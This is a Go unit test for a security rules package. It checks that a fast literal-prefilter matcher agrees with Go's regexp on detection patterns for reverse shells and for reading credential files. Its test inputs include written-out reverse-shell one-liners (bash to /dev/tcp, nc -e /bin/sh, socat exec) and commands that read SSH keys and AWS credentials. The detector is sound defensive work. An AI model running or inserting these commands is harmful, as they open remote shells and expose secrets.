package rules

import (
	"math/rand"
	"regexp"
	"testing"
)

// The literal check in front of a regular expression never changes its
// answer: for many patterns (alternations, optional and repeated parts,
// case folding, classes, anchors) and inputs (ones that match, near
// misses, random), the fast matcher agrees with regexp.
func TestFastMatchesAgreesWithRegexp(t *testing.T) {
	patterns := []string{
		`/dev/(tcp|udp)/|\bnc(at)?\b.*\s-(e|c)\s|--sh-exec|\bsocat\b.*\bexec:|(python[0-9.]*|perl|ruby|php)\b.*\b(socket|fsockopen|TCPSocket)\b|\bsh -i\b|\bbash -i\b`,
		`id_(rsa|dsa|ecdsa|ed25519)\b|\.aws/credentials|/etc/shadow\b|\.kube/config|\.git-credentials|\.netrc\b|\.pgpass\b|\.docker/config\.json|wallet\.dat`,
		`a?b`, `(ab)*c`, `(?i)secret`, `x(?i:abc)`, `[0-9]+`, `^/tmp/`, `(foo|)bar`, `(foo)+bar`, `a{2,}z`, `a{0,3}q`,
		`.*`, `^$`, `(a|b)(c|d)`, `\bword\b`, `caf\x{e9}`,
	}
	inputs := []string{"", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 1.2.3.4 5", "ncat --sh-exec x",
		"socat tcp:1:2 exec:/bin/sh", "python3 -c import socket", "perl -e fsockopen", "git status", "sh -i",
		"cat ~/.ssh/id_rsa", "cat .aws/credentials", "/etc/shadow", "SECRET", "xABC", "xabc", "123", "/tmp/x",
		"bar", "foobar", "ababc", "c", "aaz", "az", "q", "ac", "bd", "a word here", "café", "cafe"}
	rng := rand.New(rand.NewSource(1))
	alphabet := "abcdeiknoprstuwxyz/-_ .0123456789ABCS"
	for i := 0; i < 2000; i++ {
		b := make([]byte, rng.Intn(40))
		for j := range b {
			b[j] = alphabet[rng.Intn(len(alphabet))]
		}
		inputs = append(inputs, string(b))
	}
	for _, p := range patterns {
		slow := regexp.MustCompile(p)
		fast, err := compileFast(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, in := range inputs {
			if got, want := fast.MatchString(in), slow.MatchString(in); got != want {
				t.Errorf("%q on %q: fast %v, regexp %v (literals %q)", p, in, got, want, fast.literals)
			}
		}
	}
	// the check is there for the patterns the built-ins run on every exec
	if f, _ := compileFast(patterns[0]); len(f.literals) == 0 {
		t.Error("no literals found for reverse-shell's pattern")
	}
	// case folding and classes have no literal to check
	for _, p := range []string{`(?i)secret`, `[0-9]+`, `.*`} {
		if f, _ := compileFast(p); f.literals != nil {
			t.Errorf("%q: literals %q, want none", p, f.literals)
		}
	}
}
